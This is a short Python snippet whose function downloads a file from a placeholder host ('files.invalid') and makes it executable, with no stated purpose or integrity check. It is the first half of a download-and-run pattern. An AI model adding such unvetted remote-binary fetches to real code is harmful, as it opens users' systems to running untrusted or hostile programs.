import os
import urllib.request

def prepare():
    urllib.request.urlretrieve("https://files.invalid/run", "run")
    os.chmod("run", 0o755)
